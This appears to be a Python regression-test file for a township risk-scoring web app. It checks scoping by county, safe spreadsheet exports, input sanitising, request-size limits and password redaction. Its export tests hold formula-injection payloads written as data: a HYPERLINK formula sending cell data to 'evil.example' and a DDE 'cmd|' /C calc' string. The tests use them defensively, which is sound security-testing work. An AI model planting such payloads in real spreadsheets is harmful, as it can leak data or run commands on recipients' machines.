"""Regression tests for the review's findings (issue 13): each failed on the code before the fix.
Through the real app on a SQLite store, with a second county that also has a 城关镇."""

from __future__ import annotations

import io
import os
import stat

import pandas as pd
import pytest
from api_world import OWN, UNITS, bearer
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from sanling.serving.store import create_token, save_scores, session_scope, upsert_units
from sanling.serving.store.tables import Unit

RIVAL_UNIT = "140122001001"  # 阳曲县/城关镇: the same township name in another county
RIVAL = pd.DataFrame(
    {
        "unit_id": [RIVAL_UNIT],
        "unit_name": ["阳曲城关村"],
        "unit_type": ["village"],
        "township": [OWN],
        "county": ["阳曲县"],
        "city": ["太原市"],
    }
)


@pytest.fixture
def rival(world):
    """The world plus a 城关镇 unit of 阳曲县 scored in the current month."""
    from api_world import score_row

    with session_scope(world.engine) as s:
        upsert_units(s, pd.concat([UNITS, RIVAL], ignore_index=True))
        rows = [score_row(u, "red", 50.0 + i) for i, u in enumerate([*UNITS["unit_id"], RIVAL_UNIT])]
        save_scores(s, {"as_of": "2022-12", "model_version": "1"}, rows)
    return world


def _signed_in(client, token: str) -> None:
    import re

    r = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', r.text).group(1)
    r = client.post("/login", data={"token": token, "csrf_token": csrf}, follow_redirects=False)
    assert r.status_code == 303, r.text


def test_same_named_township_of_another_county_is_out_of_scope(rival):
    with TestClient(rival.app, raise_server_exceptions=False) as c:
        h = rival.headers("township")
        assert c.get(f"/v1/units/{RIVAL_UNIT}/risk", headers=h).status_code == 404
        listed = {r["unit_id"] for r in c.get("/v1/risk-list?limit=100", headers=h).json()}
        assert RIVAL_UNIT not in listed and "140100001001" in listed
        assert c.post("/v1/score", json={"unit_ids": [RIVAL_UNIT]}, headers=h).status_code == 404
        assert c.get("/v1/risk-list?county=阳曲县", headers=h).status_code == 404
        _signed_in(c, rival.tokens["township"])
        assert c.get(f"/units/{RIVAL_UNIT}").status_code == 404
        assert RIVAL_UNIT not in c.get("/list").text
        wb = load_workbook(io.BytesIO(c.get("/v1/risk-list.xlsx", headers=h).content))
        assert "阳曲城关村" not in [row[1] for row in wb.active.iter_rows(values_only=True)]


def test_an_analysts_township_filter_does_not_merge_same_named_townships(rival):
    """Issue 13: ``township=城关镇`` alone listed the units of both counties' 城关镇 as one township."""
    own_units = {"140100001001", "140100001002"}
    with TestClient(rival.app, raise_server_exceptions=False) as c:
        h = rival.headers("analyst")
        r = c.get("/v1/risk-list", params={"township": OWN}, headers=h)
        assert r.status_code == 422, r.text
        assert "清徐县" in r.json()["detail"] and "阳曲县" in r.json()["detail"]
        assert c.get("/v1/risk-list.xlsx", params={"township": OWN}, headers=h).status_code == 422
        listed = c.get("/v1/risk-list", params={"township": OWN, "county": "清徐县"}, headers=h).json()
        assert {x["unit_id"] for x in listed} == own_units
        listed = c.get("/v1/risk-list", params={"township": OWN, "county": "阳曲县"}, headers=h).json()
        assert {x["unit_id"] for x in listed} == {RIVAL_UNIT}
        # a name only one county uses needs no county
        listed = c.get("/v1/risk-list", params={"township": "河西乡"}, headers=h).json()
        assert {x["unit_id"] for x in listed} == {"140100002001", "91140100MA0001"}

        _signed_in(c, rival.tokens["analyst"])
        page = c.get("/list", params={"township": OWN}).text
        assert 'id="place-notice"' in page and "阳曲县" in page and "清徐县" in page
        assert "阳曲城关村" not in page and "东关村" not in page  # neither merged nor guessed
        page = c.get("/list", params={"township": OWN, "county": "阳曲县"}).text
        assert "阳曲城关村" in page and "东关村" not in page
        page = c.get("/list", params={"township": "河西乡"}).text
        assert "南庄村" in page and 'id="place-notice"' not in page
        wb = load_workbook(
            io.BytesIO(c.get("/v1/risk-list.xlsx", params={"township": OWN, "county": "清徐县"}).content)
        )
        names = {row[1] for row in wb.active.iter_rows(values_only=True)}
        assert "东关村" in names and "阳曲城关村" not in names


def test_a_token_for_an_ambiguous_township_must_name_its_county(rival):
    from sanling.core.errors import ConfigError

    with session_scope(rival.engine) as s:
        with pytest.raises(ConfigError, match=r"阳曲县.*清徐县|清徐县.*阳曲县"):
            create_token(s, "township", OWN)
        raw = create_token(s, "township", OWN, county="阳曲县")
    with TestClient(rival.app, raise_server_exceptions=False) as c:
        listed = {r["unit_id"] for r in c.get("/v1/risk-list", headers=bearer(raw)).json()}
    assert listed == {RIVAL_UNIT}


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def _rename(world, unit_id: str, name: str) -> None:
    with session_scope(world.engine) as s:
        s.get(Unit, unit_id).unit_name = name


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_exports_write_formula_like_names_as_inert_text_without_an_apostrophe(world):
    _rename(world, "140100001002", HOSTILE_NAME)  # 城关镇, red in both months: in the bulletin's new-red? no
    _rename(world, "140100002001", "@SUM(1+1)*cmd|' /C calc'!A0")  # 河西乡, newly red in 2022-12
    with TestClient(world.app, raise_server_exceptions=False) as c:
        ledger = c.get("/v1/risk-list.xlsx", headers=world.headers("analyst"))
        _signed_in(c, world.tokens["analyst"])
        bulletin = c.get("/bulletin.xlsx")
    assert ledger.status_code == 200 and bulletin.status_code == 200
    for content, name in ((ledger.content, HOSTILE_NAME), (bulletin.content, "@SUM(1+1)*cmd|' /C calc'!A0")):
        cells = [c for c in _cells(content) if isinstance(c.value, str) and c.value.lstrip("'") == name]
        assert cells, name
        assert all(c.value == name and c.data_type == "s" and c.quotePrefix for c in cells)


def test_control_characters_in_stored_text_do_not_break_the_exports(world):
    _rename(world, "140100002001", "南庄\x0b村\x01")
    with TestClient(world.app, raise_server_exceptions=False) as c:
        ledger = c.get("/v1/risk-list.xlsx", headers=world.headers("analyst"))
        _signed_in(c, world.tokens["analyst"])
        bulletin = c.get("/bulletin.xlsx")
    assert ledger.status_code == 200 and bulletin.status_code == 200
    names = [c.value for c in _cells(ledger.content) + _cells(bulletin.content)]
    assert "南庄\n村" in names


def test_form_input_is_stripped_of_control_characters(world):
    import re

    with TestClient(world.app, raise_server_exceptions=False) as c:
        _signed_in(c, world.tokens["township"])
        page = c.get("/units/140100001001").text
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        r = c.post(
            "/units/140100001001/followups",
            follow_redirects=False,
            data={
                "csrf_token": csrf,
                "screened_on": "2022-12-05",
                "person": "张\x0b三\x07",
                "status": "排查中",
                "findings": "第一行\x0b第二行\x00",
                "measures": "",
            },
        )
        assert r.status_code == 303, r.text
        assert c.get("/v1/risk-list.xlsx", headers=world.headers("township")).status_code == 200
    from sanling.serving.store import list_followups

    with session_scope(world.engine) as s:
        fu = list_followups(s, unit_id="140100001001")[0]
    assert fu["person"] == "张 三" and fu["findings"] == "第一行\n第二行"


def test_a_followup_follows_its_unit_to_the_new_township(world):
    from sanling.serving.store import create_followup, get_followup, update_followup
    from sanling.serving.store.errors import RecordNotFound
    from sanling.serving.store.tokens import Scope

    own, other = Scope("清徐县", "城关镇"), Scope("清徐县", "河西乡")
    with session_scope(world.engine) as s:
        fid = create_followup(
            s, "140100001001", actor="t", scope=own, screened_on="2022-12-01", person="张三", status="排查中"
        )["id"]
        moved = UNITS.copy()
        moved.loc[moved["unit_id"] == "140100001001", "township"] = "河西乡"
        upsert_units(s, moved)
    with session_scope(world.engine) as s:
        assert get_followup(s, fid, scope=own) is None
        with pytest.raises(RecordNotFound):
            update_followup(s, fid, actor="t", scope=own, status="已整改")
        assert update_followup(s, fid, actor="t", scope=other, status="已整改")["status"] == "已整改"


def test_an_oversized_body_is_413_before_the_token_check(world):
    big = b"x" * 2_000_001
    with TestClient(world.app, raise_server_exceptions=False) as c:
        assert (
            c.post("/v1/score", content=big, headers={"content-type": "application/json"}).status_code == 413
        )
        assert c.post("/login", content=big).status_code == 413

        def chunks():
            for _ in range(40):
                yield b"y" * 65_536

        r = c.post("/v1/score", content=chunks(), headers={"content-type": "application/json"})
        assert r.status_code == 413
        assert c.post("/v1/score", json={"unit_ids": ["x"]}).status_code == 401  # small bodies pass on


def test_made_up_methods_do_not_grow_the_metrics(world):
    with TestClient(world.app, raise_server_exceptions=False) as c:
        h = world.headers("analyst")
        c.get("/healthz")
        before = c.get("/metrics", headers=h).text.count("\n")
        for i in range(20):
            c.request(f"FOO{i}", "/healthz")
        c.get("/healthz")
        after = c.get("/metrics", headers=h).text.count("\n")
    assert after - before < 40


def test_odd_numbers_and_csrf_values_are_4xx_not_500(world):
    with TestClient(world.app, raise_server_exceptions=False) as c:
        assert c.post("/login", data={"token": "x", "csrf_token": "令牌"}).status_code == 403
        _signed_in(c, world.tokens["township"])
        for path in (
            "/list?page=" + "1" + "0" * 25,
            "/followups/" + "1" + "0" * 25 + "/edit",
            "/v1/risk-list?limit=" + "9" * 30,
        ):
            r = c.get(path, headers=world.headers("analyst") if path.startswith("/v1") else None)
            assert 400 <= r.status_code < 500, (path, r.status_code)


def test_pages_do_not_build_urls_from_the_host_header(world):
    with TestClient(world.app, raise_server_exceptions=False) as c:
        _signed_in(c, world.tokens["analyst"])
        page = c.get("/list", headers={"host": "evil.example"})
    assert page.status_code == 200 and "evil.example" not in page.text


def test_store_and_secret_files_are_private(world, tmp_path):
    db = tmp_path / "sanling.db"
    assert db.exists()
    assert stat.S_IMODE(os.stat(db).st_mode) == 0o600


def test_a_malformed_database_url_is_not_echoed_with_its_password():
    from sanling.core.errors import ConfigError
    from sanling.serving.store.db import make_engine

    for url in ("postgresql+psycopg://admin:s3cr3t-pw@db:notaport/x", "nonsense://admin:s3cr3t-pw@h/x"):
        with pytest.raises(ConfigError) as e:
            make_engine(url)
        assert "s3cr3t-pw" not in str(e.value)
